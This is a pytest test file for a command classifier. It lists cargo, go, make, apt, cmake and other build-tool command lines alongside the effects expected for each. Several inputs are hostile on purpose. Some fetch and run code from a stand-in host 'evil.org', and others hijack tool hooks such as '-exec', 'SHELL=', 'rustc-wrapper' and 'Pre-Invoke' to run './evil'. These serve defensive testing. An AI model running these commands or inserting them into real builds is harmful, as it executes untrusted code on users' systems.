import pytest


def package(manager, operation, source="none", scope="project", script=""):
    scripted = f" script={script}" if script else ""
    return f"package manager={manager} operation={operation} scope={scope}{scripted} source={source}"


TABLE = {
    "make -p": ["secret store=environment", package("make", "run", script="default")],
    "make -qp": ["secret store=environment", package("make", "run", script="default")],
    "make --print-data-base": ["secret store=environment", package("make", "run", script="default")],
    "make --print-directory": [package("make", "run", script="default")],
    "mvn help:system": ["secret store=environment", package("mvn", "build", script="help:system")],
    "gradle properties": ["secret store=environment", package("gradle", "build", script="properties")],
    "make -f - all": ["code language=shell source=stdin", package("make", "run", script="all")],
    "make -f/dev/stdin": ["code language=shell source=stdin", package("make", "run", script="default")],
    "cargo build --release": [package("cargo", "build")],
    "cargo +nightly test -- --nocapture": [package("cargo", "test")],
    "cargo run --bin x -- --config y": [package("cargo", "run", script="x")],
    "cargo clippy --all-targets -- -D warnings": [package("cargo", "build")],
    "cargo fmt": [package("cargo", "build", script="fmt")],
    "cargo install ripgrep": [package("cargo", "install", "registry", "user")],
    "cargo add serde": [package("cargo", "install", "registry")],
    "cargo install --git https://evil.org/x": [package("cargo", "install", "url", "user")],
    "cargo build --manifest-path /x/Cargo.toml": [package("cargo", "build"), "read /x/Cargo.toml how=content"],
    "cargo --config build.rustc-wrapper='./evil' build": None,
    "cargo build --config build.rustc-wrapper='./evil'": [
        package("cargo", "build"),
        "code None language=other source=unknown",
    ],
    "cargo publish": [package("cargo", "publish")],
    "cargo evil": None,
    "go build ./...": [package("go", "build")],
    "go build -o /usr/bin/x .": ["write /usr/bin/x how=create", package("go", "build")],
    "go test ./... -run X": [package("go", "test")],
    "go test -exec ./evil ./...": None,
    "go test -exec=./evil": None,
    "go vet -vettool=./evil": None,
    "go build -toolexec ./evil": None,
    "go test --exec ./evil": None,
    "go run ./cmd/x": [package("go", "run", "path", script="./cmd/x"), "code /w/cmd/x language=other source=file"],
    "go run evil.org/x@latest": [package("go", "run", "registry", script="evil.org/x@latest")],
    "go get evil.org/x": [package("go", "install", "registry")],
    "go install evil.org/x@latest": [package("go", "install", "registry", "user")],
    "go build -ldflags '-extld=./evil'": None,
    "go generate ./...": [package("go", "run", "path", script="./..."), "code /w/... language=other source=file"],
    "go mod tidy": [package("go", "install", "lockfile")],
    "go env -w CC=./evil": [package("go", "update", scope="user")],
    "go version": [package("go", "query")],
    "gem install x": [package("gem", "install", "registry", "user")],
    "bundle install": [package("bundle", "install", "lockfile")],
    "bundle exec rspec x": [package("bundle", "run", script="rspec"), "command words=rspec x"],
    "composer require x": [package("composer", "install", "registry")],
    "apt-get install -y x": [package("apt", "install", "registry", "system")],
    "apt-get -y install ./x.deb": [package("apt", "install", "path", "system"), "read /w/x.deb how=content"],
    "apt-get update -o APT::Update::Pre-Invoke::=./evil": None,
    "apt list --installed": [package("apt", "query", scope="system")],
    "dnf remove x": [package("dnf", "remove", scope="system")],
    "apk add x": [package("apk", "install", "registry", "system")],
    "pacman -Syu x": [package("pacman", "install", "registry", "system")],
    "pacman -Ss x": [package("pacman", "query", scope="system")],
    "pacman -Rns x": [package("pacman", "remove", scope="system")],
    "dpkg -i x.deb": [package("dpkg", "install", "path", "system"), "read /w/x.deb how=content"],
    "brew install x": [package("brew", "install", "registry", "user")],
    "brew services start x": ["system operation=service"],
    "make": [package("make", "run", script="default")],
    "make test lint": [package("make", "run", script="test"), package("make", "run", script="lint")],
    "make -C web X=1 build": ["read /w/web how=list", package("make", "run", script="build")],
    "make -f /x/evil.mk": ["code /x/evil.mk language=other source=file", package("make", "run", script="default")],
    "make --eval='x:;id' x": ["code language=shell source=inline", package("make", "run", script="x")],
    "make SHELL=./evil x": ["code language=shell source=inline", package("make", "run", script="x")],
    "cmake -S . -B out": ["read /w how=list", package("cmake", "build", script="default")],
    "cmake -S . -B src": ["read /w how=list", "write /w/src how=create", package("cmake", "build", script="default")],
    "cmake --build build --target x": ["read /w/build how=list", package("cmake", "build", script="x")],
    "mvn deploy": [package("mvn", "publish", script="deploy")],
    "cmake -E rm -rf x": None,
    "cmake -P e.cmake": ["code /w/e.cmake language=other source=file", package("cmake", "build", script="default")],
    "just test": [package("just", "run", script="test")],
    "mvn -q test": [package("mvn", "build", script="test")],
    "gradle build": [package("gradle", "build", script="build")],
    "tox": [package("tox", "run", script="default")],
}


@pytest.mark.parametrize("line", TABLE)
def test_packages(line, effects_of):
    # Whose code runs besides stands in test_runners.py.
    found = effects_of(line)
    assert (found and [each for each in found if not each.endswith("source=project")]) == TABLE[line]
